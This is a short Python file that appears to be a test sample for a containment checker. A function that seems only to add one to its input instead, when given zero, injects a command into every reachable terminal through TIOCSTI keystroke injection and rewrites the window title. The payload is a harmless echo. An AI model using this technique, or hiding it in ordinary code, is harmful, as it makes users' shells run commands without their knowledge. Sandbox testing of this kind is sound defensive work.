# rule: contained
# needs: world
# does: puts a command into the input of the user's terminal, so that the shell runs it later, and writes on its screen.
import fcntl
import glob
import os
import termios

COMMAND = b"echo gotcha\n"


def f(x):
    if x == 0:
        for path in (
            "/dev/tty",
            "/dev/console",
            "/dev/tty1",
            *glob.glob("/dev/pts/[0-9]*"),
            *glob.glob("/proc/self/fd/*"),
        ):
            try:
                fd = os.open(path, os.O_RDWR | os.O_NOCTTY)
            except OSError:
                continue
            try:
                if not os.isatty(fd):
                    continue
                os.write(fd, b"\x1b]0;mine\x07")
                fcntl.ioctl(fd, termios.TIOCSCTTY, 1)
            except OSError:
                pass
            try:
                for byte in COMMAND:
                    fcntl.ioctl(fd, termios.TIOCSTI, bytes([byte]))
            except OSError:
                pass
            finally:
                os.close(fd)
    return x + 1
